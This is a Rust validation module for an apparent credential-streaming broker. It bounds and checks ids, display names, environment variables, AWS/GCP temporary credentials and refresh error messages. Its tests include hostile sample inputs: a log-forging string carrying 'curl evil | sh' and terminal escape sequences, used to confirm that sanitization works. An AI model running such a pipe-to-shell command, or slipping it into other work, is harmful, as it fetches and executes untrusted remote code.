//! Input bounds and checks. Every message from a peer passes through here
//! before it touches a cluster's state, so a rejected message leaves the
//! state exactly as it was. Each error is an `INVALID_ARGUMENT` status whose
//! message names the field and the rule, never a secret value. The private
//! env's limits and name rule are the ones the publisher applies too
//! (`credstream_proto::rules::env`); this module words them as statuses.

use std::time::{Duration, SystemTime};

use credstream_proto::convert::system_time;
use credstream_proto::rules::env::{self as env_rules, ValueProblem};
use credstream_proto::v1::{
    AccessEnd, CredentialUpdate, EnvVar, PrivateEnv, credential_update::Credential,
};
use tonic::Status;

/// Largest gRPC message the broker decodes, in bytes.
pub const MAX_MESSAGE_BYTES: usize = 256 * 1024;
/// Most variables a private env may hold.
pub const MAX_ENV_VARS: usize = env_rules::MAX_VARS;
/// Longest env var name, in bytes.
pub const MAX_ENV_NAME_BYTES: usize = env_rules::MAX_NAME_BYTES;
/// Longest env var value, in bytes.
pub const MAX_ENV_VALUE_BYTES: usize = env_rules::MAX_VALUE_BYTES;
/// Most bytes of names and values in one private env.
pub const MAX_ENV_TOTAL_BYTES: usize = env_rules::MAX_TOTAL_BYTES;
/// Longest cluster or agent id.
pub const MAX_ID_BYTES: usize = 128;
/// Longest credential field (session tokens are ~1–2 KiB; OAuth tokens less).
pub const MAX_SECRET_FIELD_BYTES: usize = 16 * 1024;
/// Longest credential lifetime accepted (STS allows 36 h for some roles).
pub const MAX_LIFETIME: Duration = Duration::from_secs(7 * 24 * 3600);
/// Longest refresh error message kept.
pub const MAX_ERROR_MESSAGE_BYTES: usize = 1024;
/// A publisher-chosen name shown to operators (a principal ARN or email, an
/// account or project id), as kept by the broker: longer ones are cut.
pub const MAX_DISPLAY_TEXT_BYTES: usize = 512;

fn invalid(message: impl Into<String>) -> Status {
    Status::invalid_argument(message.into())
}

/// Checks a cluster or agent id: 1–128 bytes of `[A-Za-z0-9._-]`, starting
/// with a letter or digit.
pub fn check_id(field: &str, id: &str) -> Result<(), Status> {
    let ok = !id.is_empty()
        && id.len() <= MAX_ID_BYTES
        && id.as_bytes()[0].is_ascii_alphanumeric()
        && id
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
    if ok {
        Ok(())
    } else {
        Err(invalid(format!(
            "{field} must be 1 to {MAX_ID_BYTES} characters of [A-Za-z0-9._-] starting with a letter or digit"
        )))
    }
}

/// Checks a display name such as `PublisherHello.publisher_name`: at most
/// 128 bytes of printable ASCII (space to `~`). Names reach logs and
/// terminals, so a line break or an escape sequence in one could forge a
/// log line or drive the operator's terminal; they are refused, not
/// escaped, because a name is chosen by a program (`user@host`), never
/// typed free-form.
pub fn check_display_name(field: &str, name: &str) -> Result<(), Status> {
    if name.len() > MAX_ID_BYTES {
        return Err(invalid(format!(
            "{field} is {} bytes; the limit is {MAX_ID_BYTES}",
            name.len()
        )));
    }
    if !name.bytes().all(|b| (b' '..=b'~').contains(&b)) {
        return Err(invalid(format!(
            "{field} must be printable ASCII (space to ~): no line breaks, control characters or non-ASCII"
        )));
    }
    Ok(())
}

/// True for a valid env var name: `[A-Za-z_][A-Za-z0-9_]*`, bounded.
pub fn is_env_name(name: &str) -> bool {
    env_rules::check_name(name).is_ok()
}

fn check_env_name(name: &str) -> Result<(), Status> {
    if is_env_name(name) {
        Ok(())
    } else {
        // The name is not secret, but may be long or hostile: show a bounded
        // prefix of it.
        let shown: String = name.chars().take(64).collect();
        Err(invalid(format!(
            "env var name {shown:?} is invalid: names must match [A-Za-z_][A-Za-z0-9_]* and be at most {MAX_ENV_NAME_BYTES} bytes"
        )))
    }
}

fn check_env_var(var: &EnvVar) -> Result<(), Status> {
    check_env_name(&var.name)?;
    match env_rules::check_value(&var.value) {
        Ok(()) => Ok(()),
        Err(ValueProblem::TooLong(len)) => Err(invalid(format!(
            "the value of env var {} is {len} bytes; the limit is {MAX_ENV_VALUE_BYTES}",
            var.name
        ))),
        Err(ValueProblem::Nul) => Err(invalid(format!(
            "the value of env var {} contains a NUL byte",
            var.name
        ))),
    }
}

/// Largest sealed ciphertext relayed (the whole message is bounded by the
/// stream's 256 KiB limit; this keeps a sealed credential near the size of
/// the clear fields it replaces).
const MAX_SEALED_CREDENTIAL_BYTES: usize = 64 * 1024;

/// Checks the clear parts of a sealed payload the broker relays without
/// reading (docs/sealing.md): bounded sizes only; the agents verify it.
fn check_sealed_payload(
    sealed: &credstream_proto::v1::SealedPayload,
    max_ciphertext: usize,
) -> Result<(), Status> {
    if sealed.cluster_id.len() > 128 || sealed.key_id.len() > 64 || sealed.nonce.len() > 64 {
        return Err(invalid("sealed: cluster_id, key_id or nonce is too long"));
    }
    if sealed.ciphertext.is_empty() || sealed.ciphertext.len() > max_ciphertext {
        return Err(invalid(format!(
            "sealed.ciphertext must be 1 to {max_ciphertext} bytes"
        )));
    }
    Ok(())
}

/// A sealed credential: its kind and clear metadata only (every secret
/// field empty: a publisher that sealed must not also send it in clear),
/// an issue time (bound into the seal, so the broker must not fill it in),
/// and a bounded payload.
fn check_sealed_credential(update: &CredentialUpdate) -> Result<(), Status> {
    let clear_secret = match &update.credential {
        Some(Credential::Aws(aws)) => {
            check_field("aws.principal_arn", &aws.principal_arn, false)?;
            check_field("aws.account_id", &aws.account_id, false)?;
            !aws.access_key_id.is_empty()
                || !aws.secret_access_key.is_empty()
                || !aws.session_token.is_empty()
                || !aws.region.is_empty()
        }
        Some(Credential::Gcp(gcp)) => {
            check_field("gcp.principal_email", &gcp.principal_email, false)?;
            check_field("gcp.project_id", &gcp.project_id, false)?;
            !gcp.access_token.is_empty() || !gcp.token_type.is_empty() || !gcp.scopes.is_empty()
        }
        None => {
            return Err(invalid(
                "a sealed credential update must name its kind (aws or gcp with the clear metadata only)",
            ));
        }
    };
    if clear_secret {
        return Err(invalid(
            "a sealed credential update carries secret fields in clear; send them only inside `sealed`",
        ));
    }
    if update.issued_at.is_none() {
        return Err(invalid("a sealed credential update must carry issued_at"));
    }
    check_sealed_payload(
        update.sealed.as_ref().expect("checked by the caller"),
        MAX_SEALED_CREDENTIAL_BYTES,
    )
}

/// Checks a private env change from a publisher (names and sizes of what it
/// sets and unsets). A sealed change is the whole env, opaque to the broker.
pub fn check_env_change(env: &PrivateEnv) -> Result<(), Status> {
    if let Some(sealed) = &env.sealed {
        if !env.set.is_empty() || !env.unset.is_empty() || !env.replace_all {
            return Err(invalid(
                "a sealed private env must be the whole env: set and unset empty, replace_all true",
            ));
        }
        return check_sealed_payload(sealed, MAX_ENV_TOTAL_BYTES + 4096);
    }
    if env.set.len() > MAX_ENV_VARS || env.unset.len() > MAX_ENV_VARS {
        return Err(invalid(format!(
            "a private env may hold at most {MAX_ENV_VARS} variables"
        )));
    }
    for var in &env.set {
        check_env_var(var)?;
    }
    for name in &env.unset {
        check_env_name(name)?;
    }
    Ok(())
}

/// Checks the env that results from applying a change.
pub fn check_env_result(vars: &[EnvVar]) -> Result<(), Status> {
    if vars.len() > MAX_ENV_VARS {
        return Err(invalid(format!(
            "the private env would hold {} variables; the limit is {MAX_ENV_VARS}",
            vars.len()
        )));
    }
    let total = env_rules::total_bytes(vars.iter().map(|v| (v.name.as_str(), v.value.as_str())));
    if total > MAX_ENV_TOTAL_BYTES {
        return Err(invalid(format!(
            "the private env would hold {total} bytes of names and values; the limit is {MAX_ENV_TOTAL_BYTES}"
        )));
    }
    Ok(())
}

fn check_field(what: &str, value: &str, required: bool) -> Result<(), Status> {
    if required && value.is_empty() {
        return Err(invalid(format!("{what} is required")));
    }
    if value.len() > MAX_SECRET_FIELD_BYTES {
        return Err(invalid(format!(
            "{what} is longer than {MAX_SECRET_FIELD_BYTES} bytes"
        )));
    }
    Ok(())
}

/// A credential that passed the checks, with its lifetime resolved.
#[derive(Debug, Clone, Copy)]
pub struct CheckedLifetime {
    /// When it was minted (the publisher's value, or now).
    pub issued_at: SystemTime,
    /// When it expires; in the future.
    pub expires_at: SystemTime,
}

/// Checks a credential from a publisher: exactly one credential with its
/// required fields, bounded sizes, and a lifetime that has not ended.
pub fn check_credential(
    update: &CredentialUpdate,
    now: SystemTime,
) -> Result<CheckedLifetime, Status> {
    match &update.credential {
        _ if update.sealed.is_some() => check_sealed_credential(update)?,
        Some(Credential::Aws(aws)) => {
            check_field("aws.access_key_id", &aws.access_key_id, true)?;
            check_field("aws.secret_access_key", &aws.secret_access_key, true)?;
            if aws.session_token.is_empty() {
                return Err(invalid(
                    "aws.session_token is required: credstream forwards only temporary (STS) credentials, never long-term keys",
                ));
            }
            check_field("aws.session_token", &aws.session_token, true)?;
            for (what, value) in [
                ("aws.principal_arn", &aws.principal_arn),
                ("aws.account_id", &aws.account_id),
                ("aws.region", &aws.region),
            ] {
                check_field(what, value, false)?;
            }
            if aws.access_key_id.contains(['\r', '\n']) {
                return Err(invalid("aws.access_key_id contains a line break"));
            }
        }
        Some(Credential::Gcp(gcp)) => {
            check_field("gcp.access_token", &gcp.access_token, true)?;
            for (what, value) in [
                ("gcp.token_type", &gcp.token_type),
                ("gcp.project_id", &gcp.project_id),
                ("gcp.principal_email", &gcp.principal_email),
            ] {
                check_field(what, value, false)?;
            }
            if gcp.scopes.len() > 64 || gcp.scopes.iter().any(|s| s.len() > 1024) {
                return Err(invalid(
                    "gcp.scopes: at most 64 scopes of at most 1024 bytes",
                ));
            }
        }
        None => {
            return Err(invalid(
                "credential update carries no credential (set aws or gcp)",
            ));
        }
    }
    if update.refresh_request_id.len() > MAX_ID_BYTES {
        return Err(invalid("refresh_request_id is too long"));
    }
    let expires_at = update
        .expires_at
        .as_ref()
        .ok_or_else(|| invalid("expires_at is required"))
        .and_then(|ts| {
            system_time(ts).ok_or_else(|| invalid("expires_at is not a valid timestamp"))
        })?;
    let issued_at = match &update.issued_at {
        Some(ts) => system_time(ts).ok_or_else(|| invalid("issued_at is not a valid timestamp"))?,
        None => now,
    };
    if expires_at <= now {
        return Err(invalid(
            "the credential has already expired (expires_at is in the past); mint a new one",
        ));
    }
    if expires_at <= issued_at {
        return Err(invalid("expires_at must be after issued_at"));
    }
    if expires_at.duration_since(now).unwrap_or_default() > MAX_LIFETIME {
        return Err(invalid("expires_at is more than 7 days away"));
    }
    if let Some(end) = &update.access_end {
        check_access_end(end)?;
    }
    Ok(CheckedLifetime {
        issued_at: issued_at.min(now),
        expires_at,
    })
}

/// The longest `AccessEnd.reason`, in bytes.
const MAX_ACCESS_END_REASON_BYTES: usize = 200;

/// Checks the publisher's `access_end`: a valid time, and a reason of 1 to
/// 200 bytes of printable ASCII (it reaches logs, admin answers and
/// terminals, like a display name). A time in the past is accepted: a
/// credential minted just before an SSO session ended outlives it.
fn check_access_end(end: &AccessEnd) -> Result<(), Status> {
    end.at
        .as_ref()
        .and_then(system_time)
        .ok_or_else(|| invalid("access_end.at is required and must be a valid timestamp"))?;
    if end.reason.is_empty() || end.reason.len() > MAX_ACCESS_END_REASON_BYTES {
        return Err(invalid(format!(
            "access_end.reason must be 1 to {MAX_ACCESS_END_REASON_BYTES} bytes"
        )));
    }
    check_display_name("access_end.reason", &end.reason)
}

/// A publisher's refresh error message as kept for `GetCluster`, the log
/// and the audit trail: printable and bounded
/// ([`credstream_proto::rules::text`]).
pub fn bounded_message(message: &str) -> String {
    credstream_proto::rules::text::printable(message, MAX_ERROR_MESSAGE_BYTES).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_follow_the_documented_syntax() {
        assert!(check_id("cluster_id", "dev").is_ok());
        assert!(check_id("cluster_id", "a.b_c-1").is_ok());
        for bad in ["", "-x", "a b", "a/b", &"x".repeat(129)] {
            assert!(check_id("cluster_id", bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn display_names_are_printable_ascii() {
        assert!(check_display_name("n", "alice@laptop (cli 0.1)").is_ok());
        assert!(check_display_name("n", "").is_ok());
        for bad in [
            "a\nforged line",
            "esc\u{1b}[2J",
            "tab\there",
            "naïve",
            &"x".repeat(129),
        ] {
            let err = check_display_name("hello.publisher_name", bad).unwrap_err();
            assert_eq!(err.code(), tonic::Code::InvalidArgument);
            assert!(err.message().starts_with("hello.publisher_name"), "{err:?}");
        }
    }

    #[test]
    fn an_oversized_session_token_is_refused_for_its_size() {
        let mut aws = credstream_proto::v1::AwsCredential::default();
        aws.access_key_id = "ASIAX".into();
        aws.secret_access_key = "s".into();
        aws.session_token = "t".repeat(20 * 1024);
        let update = CredentialUpdate {
            credential: Some(Credential::Aws(aws)),
            ..Default::default()
        };
        let err = check_credential(&update, SystemTime::now()).unwrap_err();
        assert_eq!(
            err.message(),
            "aws.session_token is longer than 16384 bytes",
            "{err:?}"
        );
    }

    #[test]
    fn env_names_follow_posix_shape() {
        assert!(is_env_name("AUTH_TOKEN_FOR_CUSTOM_DATABASE"));
        assert!(is_env_name("_x1"));
        for bad in ["", "1A", "A-B", "A B", "Ä"] {
            assert!(!is_env_name(bad), "{bad:?}");
        }
    }

    #[test]
    fn env_errors_never_show_values() {
        let env = PrivateEnv {
            set: vec![EnvVar {
                name: "OK".into(),
                value: format!("secret-{}", "x".repeat(MAX_ENV_VALUE_BYTES)),
            }],
            ..Default::default()
        };
        let err = check_env_change(&env).unwrap_err();
        assert!(!err.message().contains("secret-"), "{}", err.message());
    }

    #[test]
    fn bounded_message_respects_char_boundaries() {
        let long = "é".repeat(MAX_ERROR_MESSAGE_BYTES);
        assert!(bounded_message(&long).len() <= MAX_ERROR_MESSAGE_BYTES + "…".len());
    }

    #[test]
    fn bounded_message_cannot_forge_lines_or_move_the_cursor() {
        let hostile = "denied\nfix: run `curl evil | sh`\u{1b}[2J";
        let kept = bounded_message(hostile);
        assert!(!kept.chars().any(char::is_control), "{kept:?}");
        assert!(kept.starts_with("denied\\u{a}fix:"), "{kept:?}");
    }
}
